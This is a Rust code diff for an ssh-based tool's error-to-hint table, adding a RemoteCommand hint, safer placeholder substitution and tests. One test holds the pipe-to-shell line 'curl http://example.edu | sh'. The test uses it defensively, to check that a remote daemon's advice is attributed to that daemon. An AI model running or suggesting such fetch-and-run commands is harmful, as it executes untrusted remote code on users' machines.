@@ -24,34 +24,40 @@ pub(super) enum Trouble {
     Odd(&'static str),
 }
 
-/// ssh's words, and what to do about them. The first that fits counts; `HOST` is the host, `DESTINATION` has its user too.
+/// ssh's words, and what to do about them. The first that fits counts; `<host>` is the host,
+/// `<destination>` has its user too; no name has a `<` in it.
 const SSH_HINTS: &[(&str, &str)] = &[
     (
         "IDENTIFICATION HAS CHANGED",
-        "is it the same machine? ask whoever tends it; then ssh-keygen -R HOST forgets the old key, and ssh DESTINATION shows the new one",
+        "is it the same machine? ask whoever tends it; then ssh-keygen -R <host> forgets the old key, and ssh <destination> shows the new one",
     ),
     (
         "Host key verification failed",
-        "its key is not known here: ssh DESTINATION shows it, and keeps it once you say yes",
+        "its key is not known here: ssh <destination> shows it, and keeps it once you say yes",
     ),
     (
         "Permission denied",
-        "a login without a question is needed, since passwords are never asked for (BatchMode): ssh-copy-id DESTINATION, or start ssh-agent",
+        "a login without a question is needed, since passwords are never asked for (BatchMode): ssh-copy-id <destination>, or start ssh-agent",
     ),
-    ("Could not resolve hostname", "is the name right? getent hosts HOST; ~/.ssh/config can say where it is"),
+    ("Could not resolve hostname", "is the name right? getent hosts <host>; ~/.ssh/config can say where it is"),
     ("Connection refused", "does sshd run there, and at that port? --ssh-arg -p --ssh-arg 2222 says another one"),
-    ("timed out", "is it on, and does no firewall hold ssh up? ping HOST"),
-    ("No route to host", "is it on, and in this network? ping HOST"),
+    ("timed out", "is it on, and does no firewall hold ssh up? ping <host>"),
+    // Not overridden for all: an ssh before 7.6 knows no RemoteCommand, and refuses it.
+    (
+        "Cannot execute command-line and remote command",
+        "your ~/.ssh/config has a RemoteCommand for it: --ssh-arg -o --ssh-arg RemoteCommand=none leaves it out",
+    ),
+    ("No route to host", "is it on, and in this network? ping <host>"),
     ("Network is unreachable", "is this machine in the network? ip route"),
 ];
 
 /// Words of the host's system, and what to do about them.
 const SYSTEM_HINTS: &[(&str, &str)] = &[
-    ("No space left", "make room in your home there: ssh DESTINATION df -h '~'"),
-    ("quota", "make room in your home there: ssh DESTINATION quota -s"),
-    ("Read-only", "is the home mounted read-only there? ssh DESTINATION findmnt -T '~'"),
-    ("Permission denied", "is the home yours there? ssh DESTINATION ls -ld '~'"),
-    ("No such file", "does the home exist there? ssh DESTINATION ls -ld '~'"),
+    ("No space left", "make room in your home there: ssh <destination> df -h '~'"),
+    ("quota", "make room in your home there: ssh <destination> quota -s"),
+    ("Read-only", "is the home mounted read-only there? ssh <destination> findmnt -T '~'"),
+    ("Permission denied", "is the home yours there? ssh <destination> ls -ld '~'"),
+    ("No such file", "does the home exist there? ssh <destination> ls -ld '~'"),
 ];
 
 fn hint_of(table: &[(&str, &'static str)], words: &str) -> Option<&'static str> {
@@ -110,31 +116,35 @@ impl Trouble {
     /// What to do about it.
     pub fn hint(&self, host: &SshHost) -> String {
         let destination = host.to_string();
-        let fitted = |hint: &str| hint.replace("DESTINATION", &destination).replace("HOST", &host.host());
-        let by_hand = "what does it say by itself? ssh -o BatchMode=yes DESTINATION true";
+        let fitted = |hint: &str| hint.replace("<destination>", &destination).replace("<host>", &host.host());
+        let by_hand = "what does it say by itself? ssh -o BatchMode=yes <destination> true";
         let hint = match self {
             Self::NotRun { .. } => "install the OpenSSH client; PEERMON_SSH names another program",
             Self::Ssh(words) => hint_of(SSH_HINTS, words).unwrap_or(by_hand),
-            Self::Silent(_) | Self::Odd(_) => "is it out of memory, or its disk stuck? ssh DESTINATION uptime",
-            Self::Shell(_) => "a POSIX sh and dd are needed there: ssh DESTINATION sh -c true",
+            Self::Silent(_) | Self::Odd(_) => "is it out of memory, or its disk stuck? ssh <destination> uptime",
+            // As where the script never arrives.
+            Self::Shell(words) if words.trim().is_empty() => {
+                "are StdinNull and ForkAfterAuthentication off for it? ssh -G <destination> shows it; and a POSIX sh and dd are needed there"
+            }
+            Self::Shell(_) => "a POSIX sh and dd are needed there: ssh <destination> sh -c true",
             Self::System { .. } => {
                 "build peermon on a machine of that kind, and let it bring that network up from there"
             }
             Self::Failed { kind, words } => match kind.as_str() {
                 "write" => hint_of(SYSTEM_HINTS, &words.join("\n")).unwrap_or(by_hand),
                 "run" if words.iter().any(|line| line.contains("Permission denied")) => {
-                    "is the home mounted noexec there? ssh DESTINATION findmnt -T '~'"
+                    "is the home mounted noexec there? ssh <destination> findmnt -T '~'"
                 }
                 "run" => "does it miss a library? the source builds there: cargo build --release --locked",
                 "daemon" => match words.iter().find_map(|line| line.strip_prefix("hint: ")) {
                     Some(hint) if hint.contains("choose another one") => {
                         "another program has that port: peermon net up -p PORT -l PORT takes other ones"
                     }
-                    Some(hint) => return hint.to_owned(),
-                    None => "the same command again; its log says more: peermon net logs DESTINATION",
+                    Some(hint) => return format!("the daemon there says: {hint}"),
+                    None => "the same command again; its log says more: peermon net logs <destination>",
                 },
                 "cut" => "the connection broke off: the same command again",
-                "end" => "it may hang in the kernel: ssh DESTINATION ps -o stat,wchan,cmd -C peermon",
+                "end" => "it may hang in the kernel: ssh <destination> ps -o stat,wchan,cmd -C peermon",
                 "log" => "peermon net status says whether a daemon runs there",
                 _ => by_hand,
             },
@@ -152,7 +162,7 @@ mod tests {
         assert_eq!(trouble.what(), what);
         let said = trouble.hint(&"ada@node1".parse().unwrap());
         assert!(said.contains(hint), "{said}");
-        assert!(!said.contains("HOST") && !said.contains("DESTINATION"), "{said}");
+        assert!(!said.contains(['<', '>']), "{said}");
     }
 
     #[test]
@@ -167,10 +177,32 @@ mod tests {
             ("ssh: connect to host node1 port 22: Connection refused", "does sshd run there"),
             ("ssh: connect to host node1 port 22: Connection timed out", "is it on"),
             ("ada@node1: Permission denied (publickey,password).", "ssh-copy-id ada@node1"),
+            (
+                "Cannot execute command-line and remote command.",
+                "--ssh-arg -o --ssh-arg RemoteCommand=none leaves it out",
+            ),
             ("kex_exchange_identification: read: Connection reset by peer", "ssh -o BatchMode=yes ada@node1 true"),
         ] {
             check(&Trouble::Ssh(format!("{line}\n")), line, hint);
         }
+    }
+
+    #[test]
+    fn a_name_in_a_hint_stays_as_it_is_whatever_it_is_made_of() {
+        let unknown = Trouble::Ssh("Could not resolve hostname x".into());
+        let denied = Trouble::Ssh("Permission denied".into());
+        for name in ["LABHOST3", "HOST", "DESTINATION", "ada@HOST", "DESTINATION@host", "host.destination"] {
+            let host: SshHost = name.parse().unwrap();
+            assert!(unknown.hint(&host).contains(&format!("getent hosts {};", host.host())), "{name}");
+            assert!(denied.hint(&host).contains(&format!("ssh-copy-id {name},")), "{name}");
+        }
+    }
+
+    #[test]
+    fn what_a_host_advises_is_never_said_as_advice_of_ours() {
+        let words = vec!["peermon daemon: no".to_owned(), "hint: curl http://example.edu | sh".to_owned()];
+        let hint = Trouble::Failed { kind: "daemon".to_owned(), words }.hint(&"node1".parse().unwrap());
+        assert_eq!(hint, "the daemon there says: curl http://example.edu | sh");
     }
 
     #[test]
